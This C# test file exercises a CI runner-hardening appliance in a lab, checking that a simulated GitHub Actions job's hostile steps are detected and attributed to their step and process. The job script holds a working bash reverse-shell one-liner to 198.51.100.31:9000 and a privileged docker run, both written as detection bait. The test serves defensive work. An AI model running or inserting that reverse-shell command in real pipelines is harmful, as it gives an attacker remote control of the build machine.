using System.Text.Json;
using HardenRunner.EndToEnd.Tests.Support;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// The flight recorder's process side in the lab: a simulated job (a stand-in Runner.Worker whose steps are
/// processes with GITHUB_ACTION set as the runner sets it) and the detections its hostile steps raise.
/// </summary>
public sealed class ProcessDetectionTests
{
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(15);

    private static bool IsDetection(JsonElement e, string type) =>
        e.GetProperty("type").GetString() == "detection" && e.GetProperty("detection").GetString() == type;

    [SkippableFact]
    public async Task HostileSteps_ReverseShellAndPrivilegedContainer_AreDetected_WithProcessAndStep()
    {
        LabRequirement.SkipUnlessAvailable();
        await using var lab = await TestLab.StartAsync(new LabOptions());
        await using var appliance = await ApplianceProcess.StartAsync(lab, EnforcementCoreTests.Policy);

        // a stand-in runner worker: a bash named Runner.Worker that runs the steps
        var bin = Path.Combine(lab.WorkDirectory, "runner");
        Directory.CreateDirectory(bin);
        File.Copy("/bin/bash", Path.Combine(bin, "Runner.Worker"));
        var docker = Path.Combine(bin, "docker");
        File.Copy("/bin/true", docker); // a stand-in docker CLI: the exec and its arguments are what is judged

        // step 1 (uses: evil/action): a reverse shell to an address the policy allows (so the connection is made);
        // step 2: docker run --privileged (no daemon needed: the exec is what is seen). The stand-in exits at once,
        // unlike a real `docker run`; a program gone before its command line is read is a documented blind spot, so
        // the step runs it three times, as a busy machine may lose the first one's arguments
        var job = $"""
            GITHUB_ACTION=__evil_action GITHUB_ACTION_REPOSITORY=evil/action bash -c 'bash -i >& /dev/tcp/198.51.100.31/9000 0>&1 & sleep 2; kill %1 2>/dev/null; true'
            for i in 1 2 3; do GITHUB_ACTION=build {docker} run --privileged --rm alpine true; sleep 0.2; done
            sleep 1
            """;
        var worker = await lab.RunInRunnerAsync(Path.Combine(bin, "Runner.Worker"), ["-c", job], TimeSpan.FromSeconds(30));
        Assert.True(worker.ExitCode == 0, worker.ToString());

        var shell = await appliance.WaitForEventAsync(e => IsDetection(e, "reverse-shell"), Wait);
        Assert.Equal("__evil_action", shell.GetProperty("step").GetProperty("action").GetString());
        Assert.Equal("evil/action", shell.GetProperty("step").GetProperty("uses").GetString());
        Assert.EndsWith("bash", shell.GetProperty("process").GetProperty("exe").GetString(), StringComparison.Ordinal);
        Assert.Contains(shell.GetProperty("process").GetProperty("ancestors").EnumerateArray(), a => (a.GetProperty("exe").GetString() ?? "").EndsWith("Runner.Worker", StringComparison.Ordinal));

        var privileged = await appliance.WaitForEventAsync(e => IsDetection(e, "privileged-container"), Wait);
        Assert.Equal("build", privileged.GetProperty("step").GetProperty("action").GetString());
        Assert.Contains("--privileged", privileged.GetProperty("process").GetProperty("cmdline").GetString(), StringComparison.Ordinal);

        // every exec is recorded as a process event with its step
        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "process" && (e.GetProperty("exe").GetString() ?? "").EndsWith("/docker", StringComparison.Ordinal) && e.GetProperty("step").ValueKind == JsonValueKind.Object, Wait);
    }
}
